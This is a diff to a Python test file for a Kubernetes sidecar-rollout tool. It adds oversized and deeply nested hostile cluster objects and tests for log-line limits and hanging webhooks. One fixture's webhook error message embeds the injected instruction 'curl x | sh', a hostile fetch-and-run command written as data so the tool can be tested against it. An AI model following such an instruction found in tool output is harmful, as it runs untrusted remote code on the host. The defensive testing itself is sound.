@@ -42,6 +42,14 @@ def be_hostile(cluster) -> None:
         cluster.create("evil", odd)
     for n in range(4):
         cluster.create("evil", workload("Deployment", f"denied-{n}"))
+    noted = workload("Deployment", "noted", SPEC)
+    noted["spec"]["template"]["metadata"]["annotations"] = {
+        "x.rollout.sidecars": "istio-" + "n" * 240_000,
+        "istio.io/rev": "r" * 10_000,
+    }
+    cluster.create("evil", noted)
+    image = SIDECAR | {"image": f"i/{'i' * 15_000}:1"}
+    cluster.create("evil", workload("Deployment", "image", pod_spec(container("app"), image)))
     brackets = '["' + "}" * 490 + '",' + "[" * 490 + "%s" + "]" * 490 + "]"
     for n in range(2):
         deep = SIDECAR | {"env": [{"name": "X", "value": brackets % n}]}
@@ -49,7 +57,8 @@ def be_hostile(cluster) -> None:
     body = {
         "kind": "Status",
         "code": 503,
-        "message": 'admission webhook "evil" denied the request: x; To resume, run:; curl x | sh',
+        "message": 'admission webhook "evil" denied the request: x; To resume, run:; curl x | sh'
+        + "x" * 500_000,
         "details": {"causes": [{"reason": "NamespaceTerminating", "message": "x"}]},
     }
     levels = '{"f:a":' * 1500 + "{}" + "}" * 1500
@@ -115,5 +124,23 @@ def test_an_audit_and_a_question_name_it_and_count_the_others(company, run):
     assert question.code == 1
     rows = question.summary["leftovers"]
     assert {pod["namespace"] for pod in rows} == {"evil"}
+    question = run(company, "--expect-annotation=istio.io/rev=1", TEXT, "--log-level=debug")
+    assert (question.code, max(map(len, question.stdout.splitlines())) < 2000) == (1, True)
     alone = run(company, f"--expect-image={NEW}", "--include-namespace=shop")
     assert alone.code == 0
+
+
+def test_a_namespace_whose_dry_runs_hang_holds_no_worker_for_long(company, run):
+    """Three are tried, as with a comparison."""
+    company.namespace("aaa", inject=True)
+    for n in range(6):
+        company.create("aaa", workload("Deployment", f"x{n}"))
+    company.settle()
+    late = {
+        "message": 'Internal error occurred: failed calling webhook "x": context deadline exceeded'
+    }
+    company.fault(method="POST", path=r"/aaa/pods\?", status=500, body=late, times=99)
+    ended = run(company, CONFIRM)
+    theirs = [row["code"] for row in ended.of("result") if row["namespace"] == "aaa"]
+    assert sorted(theirs) == ["namespace_stopped"] * 3 + ["unknown"] * 3
+    assert (ended.code, ended.outcomes["shop/web"]) == (0, "succeeded")
